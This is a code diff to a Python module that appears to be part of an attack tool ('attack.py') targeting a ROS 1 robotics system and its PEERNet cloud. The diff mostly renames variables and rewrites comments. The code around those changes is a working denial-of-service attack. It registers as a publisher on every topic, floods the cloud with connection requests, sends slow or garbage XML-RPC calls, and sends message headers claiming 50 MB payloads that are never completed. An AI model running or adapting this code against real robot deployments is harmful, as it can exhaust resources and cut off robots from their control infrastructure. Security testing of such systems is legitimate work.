@@ -1,4 +1,4 @@
-"""A ROS 1 node that does what no node should, beside a cloud of PEERNet: part of attack.py."""
+"""A ROS 1 node that does what no node should to a cloud of PEERNet: part of attack.py."""
 
 from __future__ import annotations
 
@@ -17,9 +17,11 @@ from xmlrpc.server import SimpleXMLRPCServer
 if TYPE_CHECKING:
     from attack import Attack, Connection
 
-# Pipelines for which connections are asked, again and again.
+# Number of pipelines for which the node requests connections, again and again.
 PIPELINES = 60
-CLAIMED = 50_000_000
+# Length of a message that is sent without its last byte: on topics of the robot's session, and on the node's own
+# topics, where the cloud refuses messages of more than 64 KiB.
+CLAIMED, OWN_CLAIMED = 50_000_000, 60_000
 CHUNK = 16 * 1024
 NODE = "/attack"
 
@@ -58,8 +60,11 @@ class RosAttack:
         try:
             api, messages = await asyncio.to_thread(self._register)
             await asyncio.gather(
-                *(self.attack.again_and_again(api, story, 0) for story in (slow_call, claimed_call, garbage)),
-                *(self.attack.again_and_again(messages, story, 0) for story in (claimed_header, half_a_header, garbage)),
+                *(self.attack.keep_connecting(api, behave, 0) for behave in (slow_call, claimed_call, garbage)),
+                *(
+                    self.attack.keep_connecting(messages, behave, 0)
+                    for behave in (claimed_header, half_a_header, garbage)
+                ),
             )
         finally:
             slave.shutdown()
@@ -68,6 +73,7 @@ class RosAttack:
     def _register(self) -> tuple[int, int]:
         """Publishes on every topic of PEERNet; returns the cloud's two ports, of calls and of messages."""
         publishers, subscribers, _ = self._ask("getSystemState")
+        # The node that subscribes to the topic of sessions is the cloud.
         sessions, (cloud, *_) = next(entry for entry in subscribers if entry[0].endswith("/sessions"))
         foreign = [topic for topic, _ in publishers if topic.endswith(("/request", "/request_info"))]
         own = [f"{NODE}/{number}/request_info" for number in range(PIPELINES)]
@@ -75,8 +81,8 @@ class RosAttack:
             self._ask("registerPublisher", topic, "*", self.uri)
         api = urlparse(self._ask("lookupNode", cloud)).port
         node = ServerProxy(f"http://{self.attack.address}:{api}")
-        answered = next(topic for topic, nodes in publishers if cloud in nodes and topic.endswith("/response_info"))
-        _, _, (_, _, port) = node.requestTopic(NODE, answered, [["TCPROS"]])
+        answer_topic = next(topic for topic, nodes in publishers if cloud in nodes and topic.endswith("/response_info"))
+        _, _, (_, _, port) = node.requestTopic(NODE, answer_topic, [["TCPROS"]])
         return api, port
 
     def _ask(self, method: str, *arguments: str) -> object:
@@ -86,7 +92,7 @@ class RosAttack:
         return value
 
     async def _subscribed(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        """The cloud, or the robot, has subscribed to one of the topics."""
+        """Serves a subscription of the cloud or the robot to one of the topics."""
         self.attack.counts.connections += 1
         with suppress(OSError, asyncio.IncompleteReadError):
             topic, answer = await self._handshake(reader)
@@ -94,7 +100,7 @@ class RosAttack:
             if topic.endswith("/sessions"):
                 await self._ask_for_connections(writer)
             else:
-                await self._claim(writer, 60_000 if topic.startswith(NODE) else CLAIMED)
+                await self._claim(writer, OWN_CLAIMED if topic.startswith(NODE) else CLAIMED)
             self.attack.counts.closed_by_peer += 1
         writer.close()
 
@@ -117,7 +123,7 @@ class RosAttack:
         self.attack.counts.bytes_sent += len(data)
 
     async def _ask_for_connections(self, writer: asyncio.StreamWriter) -> None:
-        """Asks for a connection for each pipeline, in turn, and sends what is no request, too."""
+        """Requests a connection for each pipeline in turn, and after each request sends bytes that are no request."""
         while self.attack.goes_on():
             for number in range(PIPELINES):
                 names = (NODE, f"host{number}", f"{NODE}/{number}")
@@ -127,7 +133,7 @@ class RosAttack:
             await asyncio.sleep(0.1)
 
     async def _claim(self, writer: asyncio.StreamWriter, size: int) -> None:
-        """Sends all of a message but its last byte, and waits."""
+        """Sends a message of this length without its last byte, and waits."""
         await self._send(writer, struct.pack("<I", size))
         for sent in range(0, size - 1, CHUNK):
             await self._send(writer, bytes(min(CHUNK, size - 1 - sent)))
